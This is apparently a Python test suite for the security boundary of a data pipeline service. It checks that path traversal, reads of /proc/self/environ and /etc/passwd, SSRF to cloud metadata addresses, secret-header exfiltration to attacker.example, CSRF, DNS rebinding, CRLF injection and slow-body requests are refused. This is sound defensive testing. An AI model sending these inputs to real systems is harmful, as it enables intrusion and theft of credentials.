"""The security boundary (pipeline.policy, the HTTP transport, `serve`): every attack of the issue
as a request, through `serve` (a child process, as a user runs it) and through the Azure starter
(a real func.HttpRequest and the real DurableOrchestrationClient), plus the policy matrix:
settings, origins, address ranges, redirects and local roots.

Each test runs with an explicit policy (tests/conftest.py TEST_POLICY, narrowed where a test says).
pipeline.policy is imported inside the tests that use it, so that on code without it the attack
tests still run and fail on their assertions (how they were checked before the fix)."""

from __future__ import annotations

import http.server
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import zipfile
from urllib.parse import urlsplit

import pytest

from pipeline.activities import ACTIVITIES
from pipeline.config import ConfigError
from pipeline.request import validate_request
from tests.conftest import ROOT, header_origin, run_cli, serve_process


FUNCTION_KEY = "fUnKeY-" + os.urandom(8).hex()
SECRET = "s3cr3t-" + os.urandom(8).hex()


def transform(src: dict, dest: str) -> dict:
    return {"processors": [{"processor_name": "transform", "processor_type": "JSONL",
                            "processor_config": {"src": src, "dest": {"type": "local", "path": dest},
                                                 "columns": [{"name": "id", "path": "id"}]}}]}


def copy(src: dict, dest: dict) -> dict:
    return {"processors": [{"processor_name": "copy", "processor_type": "copy",
                            "processor_config": {"src": src, "dest": dest}}]}


def local(path) -> dict:
    return {"type": "local", "path": str(path)}


# --- a tiny HTTP server: records requests, serves /data.jsonl, redirects on demand ------------------

class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        srv = self.server
        srv.log.append((self.path, dict(self.headers), self.client_address[1], time.monotonic()))
        path = urlsplit(self.path).path
        answer = srv.answers.get(path)
        if answer is not None:
            status, headers = answer(len(srv.log)) if callable(answer) else answer
            if status:
                self.send_response(status)
                for k, v in headers.items():
                    self.send_header(k, v)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
        data = srv.files.get(path)
        if data is None:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        rng = self.headers.get("Range")
        status, headers = 200, {"ETag": '"v1"', "Accept-Ranges": "bytes"}
        if rng:
            start, end = (int(x) if x else None for x in rng.split("=")[1].split("-"))
            end = min(end if end is not None else len(data) - 1, len(data) - 1)
            headers["Content-Range"] = f"bytes {start}-{end}/{len(data)}"
            status, data = 206, data[start:end + 1]
        self.send_response(status)
        for k, v in headers.items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def web():
    started = []

    def start():
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        srv.daemon_threads = True
        srv.log, srv.files, srv.answers = [], {"/data.jsonl": b'{"id": 1}\n{"id": 2}\n'}, {}
        threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        started.append(srv)
        srv.base = f"http://127.0.0.1:{srv.server_address[1]}"
        return srv

    yield start
    for srv in started:
        srv.shutdown()
        srv.server_close()


# --- `serve` in a child process --------------------------------------------------------------------

def call(method: str, url: str, body=None, headers=None, raw: bytes | None = None):
    data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
    h = {"Content-Type": "application/json", "x-functions-key": FUNCTION_KEY} if headers is None else headers
    req = urllib.request.Request(url, data=data, method=method, headers=h)
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, err.read()


@pytest.fixture(scope="module")
def serve_app(tmp_path_factory):
    """`python -m local_runner serve` with the test policy, a function key and a secret setting that
    no request may name (as the storage key and tokens of a real app)."""
    env = {"LOCAL_HOST_FUNCTION_KEY": FUNCTION_KEY, "APP_SECRET": SECRET, "AzureWebJobsStorage": SECRET,
           "PIPELINE_ALLOWED_SETTINGS": os.environ["PIPELINE_ALLOWED_SETTINGS"] + ",AzureWebJobsStorage"}
    with serve_process(tmp_path_factory.mktemp("serve"), env) as served:
        yield served


def start_run(base: str, config: dict, **extra):
    code, body = call("POST", f"{base}/api/pipelines", {"config": config, **extra})
    return code, json.loads(body)


def finish(status_url: str, timeout: float = 60) -> dict:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        code, body = call("GET", status_url)
        if code != 202:
            return json.loads(body)
        time.sleep(0.2)
    raise TimeoutError(status_url)


def test_serve_refuses_reading_host_files_with_the_json_path(serve_app, tmp_path):
    base, _ = serve_app
    for src in ["/proc/self/environ", "/etc/hostname", f"{tmp_path}/../../../../etc/passwd"]:
        code, body = start_run(base, copy(local(src), local(f"{tmp_path}/out/")))
        assert code == 400, body
        assert any(e.startswith("config.processors[0].processor_config.src: local path") for e in body["errors"]), body
    assert not (tmp_path / "out").exists()


def test_serve_refuses_writing_outside_the_roots(serve_app, tmp_path):
    base, _ = serve_app
    (tmp_path / "in.jsonl").write_text('{"id": 1}\n')
    for dest in ["/etc/cron.d/", f"{tmp_path}/../../../../var/tmp/x/", "/dev/shm/evil/"]:
        code, body = start_run(base, transform(local(tmp_path / "in.jsonl"), dest))
        assert code == 400, body
        assert body["errors"][0].startswith("config.processors[0].processor_config.dest: local path"), body


def test_serve_refuses_settings_the_operator_did_not_list(serve_app, web, tmp_path):
    base, _ = serve_app
    srv = web()
    for setting in ["APP_SECRET", "RAW_STORAGE", "AzureWebJobsStorage", "AZUREWEBJOBSSTORAGE", "LOCAL_HOST_FUNCTION_KEY"]:
        src = {"type": "http", "url": f"{srv.base}/data.jsonl", "headers_from_env": {"X-Anything": setting}}
        code, body = start_run(base, transform(src, f"{tmp_path}/out/"))
        assert code == 400, body
        assert body["errors"][0].startswith("config.processors[0].processor_config.src: app setting"), body
        assert SECRET not in json.dumps(body)
        if setting != "RAW_STORAGE":  # listed: a blob connection may name it, a header may not
            blob = {"type": "blob", "connection": setting, "container": "landing", "path": "x/"}
            code, body = start_run(base, transform(blob, f"{tmp_path}/out/"))
            assert code == 400 and "app setting" in body["errors"][0], body
    assert srv.log == []  # nothing was sent anywhere


def test_serve_refuses_private_and_metadata_addresses(serve_app, tmp_path):
    base, _ = serve_app
    for url in ["http://169.254.169.254/metadata/instance", "https://169.254.169.254/latest/meta-data/",
                "https://10.0.0.5/x.jsonl", "https://[::ffff:127.0.0.1]:8443/x.jsonl", "https://[::1]/x.jsonl",
                "https://100.64.0.1/x.jsonl", "https://0.0.0.0/x.jsonl", "ftp://example.com/x.jsonl"]:
        code, body = start_run(base, transform({"type": "http", "url": url}, f"{tmp_path}/out/"))
        assert code == 400, (url, body)
        assert body["errors"][0].startswith("config.processors[0].processor_config.src"), body


def test_serve_a_name_resolving_to_loopback_fails_the_run_before_any_request(serve_app, web, tmp_path):
    """'localhost' is a name: it passes validation and is refused on the address it resolves to."""
    base, _ = serve_app
    srv = web()
    url = srv.base.replace("127.0.0.1", "localhost") + "/data.jsonl"
    code, body = start_run(base, transform({"type": "http", "url": url}, f"{tmp_path}/out/"))
    assert code == 202, body
    status = finish(body["statusQueryGetUri"])
    assert status["runtimeStatus"] == "Failed"
    assert "resolves to 127.0.0.1, a loopback address; refused" in status["output"]
    assert srv.log == [] and not (tmp_path / "out").exists()


def test_serve_requires_the_function_key_on_every_route(serve_app, tmp_path):
    base, _ = serve_app
    (tmp_path / "in.jsonl").write_text('{"id": 1}\n')
    cfg = transform(local(tmp_path / "in.jsonl"), f"{tmp_path}/out/")
    no_key = {"Content-Type": "application/json"}
    assert call("POST", f"{base}/api/pipelines", {"config": cfg}, headers=no_key)[0] == 401
    assert call("POST", f"{base}/api/pipelines?code=wrong", {"config": cfg}, headers=no_key)[0] == 401
    assert call("POST", f"{base}/api/pipelines?code={FUNCTION_KEY}", {"config": cfg}, headers=no_key)[0] == 202
    code, body = start_run(base, cfg)
    status_url = body["statusQueryGetUri"]
    assert finish(status_url)["runtimeStatus"] == "Completed"
    path = urlsplit(status_url).path
    assert call("GET", f"{base}{path}", headers={})[0] == 401  # the status without a key
    assert call("GET", f"{base}{path}", headers={"x-functions-key": FUNCTION_KEY})[0] == 200
    assert call("GET", status_url, headers={})[0] == 200  # the system key the status URL carries
    assert (tmp_path / "out" / "in.csv").read_bytes() == b"id\r\n1\r\n"


def test_serve_old_rpc_routes_are_not_reachable(serve_app, tmp_path):
    """The extension's RPC used to sit at /durabletask/...: a start there skipped the starter's checks."""
    base, _ = serve_app
    bad = {"config": transform(local("/proc/self/environ"), "/tmp/x/"), "max_parallel_units": -1}
    for headers in [{"Content-Type": "application/json"}, None]:
        code, _ = call("POST", f"{base}/durabletask/orchestrators/pipeline/evil-1", bad, headers=headers)
        assert code in (401, 404)
        code, _ = call("GET", f"{base}/durabletask/instances/evil-1", headers=headers)
        assert code in (401, 404)


def test_serve_refuses_csrf_and_dns_rebinding(serve_app, tmp_path):
    base, _ = serve_app
    (tmp_path / "in.jsonl").write_text('{"id": 1}\n')
    body = json.dumps({"config": transform(local(tmp_path / "in.jsonl"), f"{tmp_path}/out/")}).encode()
    # A browser form posts text/plain with no preflight (CSRF): refused even with the key.
    code, _ = call("POST", f"{base}/api/pipelines", raw=body,
                   headers={"Content-Type": "text/plain", "x-functions-key": FUNCTION_KEY, "Origin": "https://evil.example"})
    assert code == 415
    # A rebinding page reaches 127.0.0.1 under its own name: the Host header gives it away.
    port = urlsplit(base).port
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.sendall(b"POST /api/pipelines HTTP/1.1\r\nHost: evil.example:%d\r\nContent-Type: application/json\r\n"
                  b"x-functions-key: %s\r\nContent-Length: %d\r\n\r\n%s" % (port, FUNCTION_KEY.encode(), len(body), body))
        assert s.recv(100).startswith(b"HTTP/1.1 421")
    assert not (tmp_path / "out").exists()


def test_serve_caps_bodies(serve_app):
    """A body over the cap is refused from its Content-Length, before it is read."""
    base, _ = serve_app
    port = urlsplit(base).port
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(b"POST /api/pipelines HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json\r\n"
                  b"x-functions-key: %s\r\nContent-Length: %d\r\n\r\n{" % (port, FUNCTION_KEY.encode(), 2 << 20))
        assert s.recv(100).startswith(b"HTTP/1.1 413")


def test_header_values_with_cr_lf_are_refused_and_never_echoed(web, tmp_path, monkeypatch):
    srv = web()
    monkeypatch.setenv("ACME_TOKEN", f"Bearer {SECRET}\r\nX-Injected: 1")
    header_origin(monkeypatch, "ACME_TOKEN", srv.base)
    cfg = transform({"type": "http", "url": f"{srv.base}/data.jsonl", "headers_from_env": {"Authorization": "ACME_TOKEN"}},
                    f"{tmp_path}/out/")
    (tmp_path / "c.json").write_text(json.dumps(cfg))
    proc = run_cli("run", str(tmp_path / "c.json"), "-q")
    assert proc.returncode == 1
    assert "app setting 'ACME_TOKEN' holds a CR, LF or NUL character" in proc.stderr
    assert SECRET not in proc.stderr + proc.stdout and "X-Injected" not in proc.stderr
    assert srv.log == []  # nothing was sent


# --- the Azure starter: a real func.HttpRequest and the real DurableOrchestrationClient ----------

@pytest.fixture
def app_server():
    from azure_shim import build_app
    from azure_shim.local_host.server import FunctionAppServer

    server = FunctionAppServer(build_app(), "127.0.0.1", 0, workers=1, hub_name="sechub", function_key="k")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def starter(server, body: dict):
    import asyncio

    import azure.functions as func

    fn = {f.get_function_name(): f for f in server.hub_functions}["start_pipeline"].get_user_function()
    req = func.HttpRequest(method="POST", url=f"{server.base_url}/api/pipelines",
                           headers={"Content-Type": "application/json"}, params={}, route_params={},
                           body=json.dumps(body).encode())
    resp = asyncio.run_coroutine_threadsafe(fn(req=req, client=server.client_binding()), server.loop).result(30)
    return resp.status_code, json.loads(resp.get_body())


@pytest.mark.parametrize("config, path", [
    (copy(local("/proc/self/environ"), local("/tmp/loot/")), "config.processors[0].processor_config.src"),
    (transform({"type": "http", "url": "https://attacker.example/x", "headers_from_env": {"X-A": "RAW_STORAGE"}},
               "/tmp/x/"), "config.processors[0].processor_config.src"),
    (transform({"type": "http", "url": "http://169.254.169.254/latest/meta-data/"}, "/tmp/x/"),
     "config.processors[0].processor_config.src"),
    (transform({"type": "blob", "connection": "WEBSITE_AUTH_ENCRYPTION_KEY", "container": "abc"}, "/tmp/x/"),
     "config.processors[0].processor_config.src"),
])
def test_azure_starter_refuses_with_the_json_path_and_starts_nothing(app_server, config, path):
    code, body = starter(app_server, {"config": config})
    assert code == 400 and body["errors"][0].startswith(path + ": "), body
    assert app_server.hub.instances() == []


@pytest.mark.parametrize("raw", [b"[" * 200_000 + b"]" * 200_000, b'{"config": ' + b"9" * 5000 + b"}", b"\xff\xfe"])
def test_azure_starter_answers_400_to_any_body(app_server, raw):
    """Deep nesting, a 5,000-digit integer, bytes that are not text: a 400, never a 500 with a traceback."""
    import asyncio

    import azure.functions as func

    fn = {f.get_function_name(): f for f in app_server.hub_functions}["start_pipeline"].get_user_function()
    req = func.HttpRequest(method="POST", url=f"{app_server.base_url}/api/pipelines",
                           headers={"Content-Type": "application/json"}, params={}, route_params={}, body=raw)
    resp = asyncio.run_coroutine_threadsafe(fn(req=req, client=app_server.client_binding()), app_server.loop).result(30)
    assert resp.status_code == 400 and app_server.hub.instances() == []


def test_rpc_start_is_validated_like_the_starter(app_server, tmp_path):
    """Even a caller who learnt the RPC path gets the starter's validation."""
    (tmp_path / "in.jsonl").write_text('{"id": 1}\n')
    good = {"config": transform(local(tmp_path / "in.jsonl"), f"{tmp_path}/out/")}
    url = f"{app_server.base_url}{app_server.rpc}orchestrators/pipeline"
    for body, instance in [({**good, "max_parallel_units": -1}, "x1"), (good, "bad id with spaces"),
                           ({"config": copy(local("/proc/self/environ"), local(f"{tmp_path}/o/"))}, "x2")]:
        code, _ = call("POST", f"{url}/{instance.replace(' ', '%20')}", raw=json.dumps(json.dumps(body)).encode())
        assert code == 400
    assert app_server.hub.instances() == []
    code, _ = call("POST", f"{url}/ok-1", raw=json.dumps(json.dumps(good)).encode())
    assert code == 202


def test_a_stalled_request_does_not_hold_a_thread(app_server, monkeypatch):
    import azure_shim.local_host.server as server_module

    monkeypatch.setattr(server_module, "REQUEST_DEADLINE", 1.0)
    port = app_server.server_address[1]
    with socket.create_connection(("127.0.0.1", port)) as s:
        s.sendall(b"POST /api/pipelines HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json\r\n"
                  b"x-functions-key: k\r\nContent-Length: 100\r\n\r\n{" % port)
        s.settimeout(15)
        started = time.monotonic()
        while True:  # dribble: a byte every 0.3 s keeps each read under the per-read timeout
            try:
                s.sendall(b" ")
                time.sleep(0.3)
                if s.recv(1, socket.MSG_DONTWAIT) == b"":
                    break
            except BlockingIOError:
                continue
            except OSError:
                break
            assert time.monotonic() - started < 10, "the server kept reading a dribbling request"
    assert time.monotonic() - started < 5


# --- inside the activities: a hand-edited payload ------------------------------------------------

def test_activities_refuse_a_hand_edited_payload_before_any_io(tmp_path):
    (tmp_path / "in.jsonl").write_text('{"id": 1}\n')
    processor = transform(local(tmp_path / "in.jsonl"), f"{tmp_path}/out/")["processors"][0]
    # a unit whose source was swapped for a host file
    unit = {"processor": processor, "src": {"location": local("/proc/self/environ"), "name": "environ", "size": None}}
    result = ACTIVITIES["transform"](unit)
    assert result["failed"].startswith("refused by the operator's policy: local path '/proc/self/environ'")
    # a unit whose source name would escape the destination folder
    unit = {"processor": processor, "src": {"location": local(tmp_path / "in.jsonl"), "name": "../../x.jsonl"}}
    assert "is not a safe relative file name" in ACTIVITIES["transform"](unit)["failed"]
    # a processor whose destination was swapped for another folder
    evil = {**processor, "processor_config": {**processor["processor_config"], "dest": local("/var/tmp/evil/")}}
    unit = {"processor": evil, "src": {"location": local(tmp_path / "in.jsonl"), "name": "in.jsonl"}}
    assert "processor_config.dest: local path '/var/tmp/evil/'" in ACTIVITIES["transform"](unit)["failed"]
    # the list activity, with the previous processor's outputs edited
    listed = ACTIVITIES["list"]({"processor": {**processor, "processor_config": {
        k: v for k, v in processor["processor_config"].items() if k != "src"}},
        "previous_outputs": [{"location": local("/etc/passwd"), "name": "passwd", "bytes": 1}]})
    assert "refused by the operator's policy" in listed["failed"] and "/etc/passwd" in listed["failed"]
    assert not (tmp_path / "out").exists() and not os.path.exists("/var/tmp/evil")


# --- the local CLI run ---------------------------------------------------------------------------

def test_local_run_defaults_to_the_current_directory(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "PIPELINE_LOCAL_ROOTS"}
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "in.jsonl").write_text('{"id": 1}\n')
    cfg = tmp_path / "work" / "c.json"
    cfg.write_text(json.dumps(copy(local("/etc/hostname"), local("out/"))))
    proc = subprocess.run([sys.executable, "-m", "local_runner", "run", str(cfg), "-q"], cwd=tmp_path / "work",
                          env={**env, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "processors[0].processor_config.src: local path '/etc/hostname'" in proc.stderr
    assert "the current directory" in proc.stderr
    cfg.write_text(json.dumps(transform(local("in.jsonl"), "out/")))
    proc = subprocess.run([sys.executable, "-m", "local_runner", "run", str(cfg), "-q"], cwd=tmp_path / "work",
                          env={**env, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "work" / "out" / "in.csv").read_bytes() == b"id\r\n1\r\n"


# --- the policy matrix ---------------------------------------------------------------------------

def policy(**env):
    from pipeline.policy import from_env
    return from_env({k: v for k, v in env.items()})


def test_settings_matrix():
    from pipeline.policy import PolicyError
    p = policy(PIPELINE_ALLOWED_SETTINGS="RAW_STORAGE, ACME_TOKEN ,WEBSITE_AUTH_KEY,MSI_SECRET,AzureWebJobsStorage",
               PIPELINE_HEADER_ORIGINS="ACME_TOKEN=https://api.acme.example,ACME_TOKEN=https://files.acme.example:8443")
    p.check_setting("RAW_STORAGE")
    p.check_setting("ACME_TOKEN")
    for refused in ["OTHER", "raw_storage", "WEBSITE_AUTH_KEY", "MSI_SECRET", "AzureWebJobsStorage",
                    "FUNCTIONS_KEY", "APPLICATIONINSIGHTS_CONNECTION_STRING", "IDENTITY_HEADER", "PIPELINE_X"]:
        with pytest.raises(PolicyError):
            p.check_setting(refused)
    p.check_header_setting("ACME_TOKEN", "https://api.acme.example/v1/x?page=2")
    p.check_header_setting("ACME_TOKEN", "https://API.acme.example:443/")
    p.check_header_setting("ACME_TOKEN", "https://files.acme.example:8443/a")
    for url in ["https://evil.example/", "http://api.acme.example/", "https://api.acme.example:8443/",
                "https://api.acme.example.evil.example/", "https://files.acme.example/a"]:
        with pytest.raises(PolicyError, match="may be sent only to"):
            p.check_header_setting("ACME_TOKEN", url)
    with pytest.raises(PolicyError, match="to no origin"):
        p.check_header_setting("RAW_STORAGE", "https://api.acme.example/")
    with pytest.raises(PolicyError, match="is not allowed"):
        policy().check_setting("RAW_STORAGE")  # nothing listed: nothing allowed


@pytest.mark.parametrize("ip, refused", [
    ("127.0.0.1", True), ("127.8.9.10", True), ("10.1.2.3", True), ("172.16.0.1", True), ("192.168.1.1", True),
    ("169.254.169.254", True), ("100.64.0.1", True), ("100.127.255.254", True), ("0.0.0.0", True),
    ("224.0.0.1", True), ("239.255.255.250", True), ("255.255.255.255", True), ("198.18.0.1", True),
    ("::1", True), ("::", True), ("fe80::1", True), ("fc00::1", True), ("fd12:3456::1", True), ("ff02::1", True),
    ("::ffff:127.0.0.1", True), ("::ffff:169.254.169.254", True), ("2002:7f00:1::", True),
    ("64:ff9b::a9fe:a9fe", True), ("fe80::1%eth0", True),
    ("8.8.8.8", False), ("93.184.216.34", False), ("2606:4700:4700::1111", False), ("::ffff:8.8.8.8", False),
])
def test_address_matrix(ip, refused):
    from pipeline.policy import PolicyError, refused_address
    assert (refused_address(ip) is not None) == refused
    p = policy()
    if refused:
        with pytest.raises(PolicyError, match="refused"):
            p.check_address("example.com", 443, ip)
    else:
        p.check_address("example.com", 443, ip)


def test_private_and_plain_http_allowlists():
    from pipeline.policy import PolicyError
    p = policy(PIPELINE_PRIVATE_HOSTS="internal.example, 10.0.0.5:8443,[::1]", PIPELINE_PLAIN_HTTP_HOSTS="legacy.example:8080")
    p.check_address("internal.example", 443, "10.9.9.9")
    p.check_address("INTERNAL.example", 8000, "10.9.9.9")  # a host without a port: any port
    p.check_address("10.0.0.5", 8443, "10.0.0.5")
    with pytest.raises(PolicyError):
        p.check_address("10.0.0.5", 443, "10.0.0.5")  # listed with another port
    with pytest.raises(PolicyError):
        p.check_address("other.example", 443, "10.9.9.9")
    p.check_url("https://[::1]/x")
    p.check_url("http://legacy.example:8080/x")
    for url in ["http://legacy.example/x", "http://api.example/x", "ftp://api.example/x", "file:///etc/passwd",
                "gopher://x/", "https://169.254.169.254/"]:
        with pytest.raises(PolicyError):
            p.check_url(url)


def test_local_roots_matrix(tmp_path):
    from pipeline.policy import PolicyError
    root, outside = tmp_path / "root", tmp_path / "outside"
    (root / "sub").mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    (root / "sub" / "ok.txt").write_text("ok")
    (root / "escape.txt").symlink_to(outside / "secret.txt")  # a file symlink out of the root
    (root / "escape-dir").symlink_to(outside)  # a folder symlink out of the root
    (root / "environ").symlink_to("/proc/self/environ")
    (root / "zero").symlink_to("/dev/zero")
    (root / "inside.txt").symlink_to(root / "sub" / "ok.txt")  # a symlink that stays inside
    os.mkfifo(root / "fifo")
    p = policy(PIPELINE_LOCAL_ROOTS=f"{root}{os.pathsep}/")  # even '/' does not open /proc, /sys, /dev
    narrow = policy(PIPELINE_LOCAL_ROOTS=str(root))
    assert narrow.local_path(str(root / "sub" / "ok.txt")) == str(root / "sub" / "ok.txt")
    with narrow.open_local(str(root / "inside.txt"), 4096) as f:
        assert f.read() == b"ok"
    for bad in ["escape.txt", "escape-dir/secret.txt", "sub/../../outside/secret.txt", "environ", "zero"]:
        with pytest.raises(PolicyError):
            narrow.local_path(str(root / bad))
    for bad in ["environ", "zero"]:
        with pytest.raises(PolicyError, match="never used"):
            p.local_path(str(root / bad))
    with pytest.raises(PolicyError, match="not a regular file"):
        p.open_local(str(root / "fifo"), 4096)  # and it did not hang waiting for a writer
    with pytest.raises(PolicyError, match="not allowed here"):
        policy(PIPELINE_LOCAL_ROOTS="").local_path(str(root / "sub" / "ok.txt"))


def test_listing_a_folder_with_a_symlink_out_fails(tmp_path, monkeypatch):
    from pipeline.policy import PolicyError
    import mounters

    root = tmp_path / "root"
    root.mkdir()
    (root / "a.jsonl").write_text("{}\n")
    (root / "b.jsonl").symlink_to("/etc/hostname")
    monkeypatch.setenv("PIPELINE_LOCAL_ROOTS", str(root))
    with pytest.raises(PolicyError, match="b.jsonl' resolves to '/etc/hostname', outside"):
        mounters.list_files(local(f"{root}/"))


def test_validate_request_names_every_refusal(monkeypatch):
    monkeypatch.setenv("PIPELINE_ALLOWED_SETTINGS", "RAW_STORAGE")
    monkeypatch.setenv("PIPELINE_LOCAL_ROOTS", "")
    cfg = {"processors": [
        {"processor_name": "copy", "processor_type": "copy", "processor_config": {
            "src": {"type": "http", "url": "https://api.example/x", "headers_from_env": {"X-Key": "RAW_STORAGE"}},
            "dest": {"type": "local", "path": "/tmp/out/"}}}]}
    with pytest.raises(ConfigError) as info:
        validate_request({"config": cfg})
    assert [e.split(": ")[0] for e in info.value.errors] == ["config.processors[0].processor_config.src",
                                                             "config.processors[0].processor_config.dest"]


# --- the HTTP transport --------------------------------------------------------------------------

def test_redirects_are_checked_against_the_policy(web, tmp_path):
    from processors import UnitError, run_unit

    srv = web()
    for target, complaint in [("ftp://example.com/x", "ftp:// URLs are not fetched"),
                              ("https://169.254.169.254/latest/", "a link-local address"),
                              ("http://example.com/x", "plain http to example.com:80 is not allowed"),
                              (f"{srv.base.replace('127.0.0.1', 'localhost')}/data.jsonl", "a loopback address")]:
        srv.answers["/r"] = (302, {"Location": target})
        unit = {"processor": transform({"type": "http", "url": f"{srv.base}/r"}, f"{tmp_path}/out/")["processors"][0]}
        unit["src"] = {"location": unit["processor"]["processor_config"]["src"], "name": "r.jsonl"}
        with pytest.raises(UnitError, match=complaint):
            run_unit(unit)
    assert [p for p, *_ in srv.log] == ["/r"] * 4  # nothing fetched beyond the redirects


def test_cross_origin_redirect_drops_every_configured_header(web, tmp_path, monkeypatch):
    from processors import run_unit

    home, other = web(), web()
    monkeypatch.setenv("ACME_TOKEN", SECRET)
    header_origin(monkeypatch, "ACME_TOKEN", home.base)
    home.answers["/moved"] = (302, {"Location": f"{other.base}/data.jsonl"})
    src = {"type": "http", "url": f"{home.base}/moved", "headers_from_env": {"X-Api-Key": "ACME_TOKEN",
                                                                            "Authorization": "ACME_TOKEN"}}
    unit = {"processor": transform(src, f"{tmp_path}/out/")["processors"][0], "src": {"location": src, "name": "m.jsonl"}}
    assert run_unit(unit)["rows"] == 2
    assert home.log[0][1].get("X-Api-Key") == SECRET
    sent = other.log[0][1]
    assert SECRET not in json.dumps(sent) and "X-Api-Key" not in sent and "Authorization" not in sent


def test_ranged_reads_reuse_one_connection_and_retry_after_is_honoured(web, tmp_path):
    from processors import run_unit

    srv = web()
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(4):
            zf.writestr(f"m{i}.bin", os.urandom(5 << 20))  # 20 MiB: several 4 MiB ranges
    srv.files["/a.zip"] = buf.getvalue()
    src = {"type": "http", "url": f"{srv.base}/a.zip"}
    unit = {"processor": {"processor_name": "decompress", "processor_type": "zip", "processor_config": {
        "src": src, "dest": local(f"{tmp_path}/out/")}}, "src": {"location": src, "name": "a.zip"}}
    result = run_unit(unit)
    assert len(result["outputs"]) == 4 and len(srv.log) >= 6
    assert len({port for _, _, port, _ in srv.log}) == 1  # one TCP connection for every range

    srv.log.clear()
    srv.answers["/data.jsonl"] = lambda n: (429, {"Retry-After": "1"}) if n == 1 else (None, {})
    unit = {"processor": transform({"type": "http", "url": f"{srv.base}/data.jsonl"}, f"{tmp_path}/o2/")["processors"][0]}
    unit["src"] = {"location": unit["processor"]["processor_config"]["src"], "name": "data.jsonl"}
    assert run_unit(unit)["rows"] == 2
    assert len(srv.log) == 2 and srv.log[1][3] - srv.log[0][3] >= 0.9  # waited as the server asked


def test_a_name_resolving_to_public_and_private_addresses_is_refused(monkeypatch, tmp_path):
    """Every address a name resolves to is checked before connecting, and the connection goes to a
    checked address (no second lookup a rebinding DNS server could answer differently)."""
    from pipeline.policy import PolicyError
    import mounters.http as mh

    real = socket.getaddrinfo
    lookups = []

    def resolver(host, port, *args, **kwargs):
        if host == "rebind.example":
            lookups.append(host)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", port)),
                    (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(mh.socket, "getaddrinfo", resolver)
    with pytest.raises(OSError) as info:
        try:
            mh.open_source({"type": "http", "url": "https://rebind.example/x"}).read(1)
        except PolicyError as exc:
            raise OSError(str(exc)) from exc
    assert "resolves to 127.0.0.1, a loopback address" in str(info.value) and lookups == ["rebind.example"]
